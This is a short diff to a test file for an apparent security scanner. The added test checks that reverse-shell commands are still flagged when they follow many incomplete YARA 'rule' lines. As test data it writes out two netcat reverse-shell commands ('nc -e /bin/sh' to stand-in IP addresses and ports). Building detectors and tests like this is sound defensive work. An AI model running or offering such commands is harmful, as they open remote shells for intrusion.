@@ -185,6 +185,13 @@ describe('attacker forms, fifth set', () => {
     ].join('\n')
     expect(hitsOf('reverse_shell', { 'resources/rules.yar': yara }))
       .toEqual(['warning reverse_shell resources/rules.yar:4:15'])
+    // `rule` lines without `strings:` and `condition:` make no detection rule, however many.
+    const shells = 'nc -e /bin/sh 203.0.113.250 4444 # x\nbash -c \'nc -e /bin/sh 8.8.4.4 53\'\n'
+    const rules = `${'rule a {\n'.repeat(1000)}${shells}`
+    expect(hitsOf('reverse_shell', { 'resources/many.yar': rules })).toEqual([
+      'warning reverse_shell resources/many.yar:1001:1',
+      'error reverse_shell resources/many.yar:1002:10',
+    ])
     expect(hitsOf('concealment', skillMd(
       '## Detection heuristics',
       '',
